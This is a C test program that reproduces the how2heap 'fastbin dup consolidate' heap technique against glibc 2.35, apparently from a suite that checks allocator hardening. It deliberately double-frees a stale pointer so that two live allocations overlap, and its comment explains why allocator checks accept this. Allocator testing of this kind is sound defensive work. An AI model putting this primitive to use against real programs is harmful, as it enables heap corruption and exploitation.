/* Technique: fastbin dup consolidate (how2heap fastbin_dup_consolidate,
   glibc 2.35 version).

   Goal: an overlapping allocation -- two live allocations at the same
   address.

   How: with the 0x50 tcache bin full, p1 (just below the top chunk) is
   freed into the fastbin.  A large request (malloc (0x400)) runs
   malloc_consolidate, which merges p1 into the top chunk, and is then
   carved from the top at p1's address: p2 == p1.  Freeing the stale
   pointer p1 again passes every check (it now looks like p2's 0x410
   chunk, which is in use) and puts p2 into the tcache while the program
   still holds it; the next malloc (0x400) returns the same block.

   Note: no metadata is forged here.  The stale pointer p1 names the
   start of a live block (p2) when it is freed the second time, so even
   an allocator whose metadata is out of band and that detects every
   free of a pointer that is not a live chunk accepts it.  Only a change
   in address reuse (say, not carving a large request at the address of
   a chunk freed into a fastbin just before) would stop this.  */
#include "attack.h"

int
main (void)
{
  attack_init ("fastbin_dup_consolidate: fastbin chunk consolidated into top, then freed again");
  void *fill[7];
  for (int i = 0; i < 7; i++)
    fill[i] = malloc (0x40);
  void *p1 = malloc (0x40);
  say ("p1 %p", p1);
  for (int i = 0; i < 7; i++)
    free (fill[i]);
  free (p1);			/* fastbin */
  void *p2 = malloc (0x400);	/* malloc_consolidate, then from top */
  say ("p2 = malloc (0x400) = %p", p2);
  free (p1);			/* double free of the stale pointer */
  void *p3 = malloc (0x400);
  say ("p3 = malloc (0x400) = %p", p3);
  if (p2 && p3 && overlaps (p2, 0x400, p3, 0x400)
      && aliases ((unsigned char *) p2 + 0x100,
		  (unsigned char *) p3 + ((char *) p2 - (char *) p3) + 0x100))
    reached ("two live allocations overlap: p2 %p, p3 %p", p2, p3);
  no_effect ("p2 %p and p3 %p are distinct", p2, p3);
}
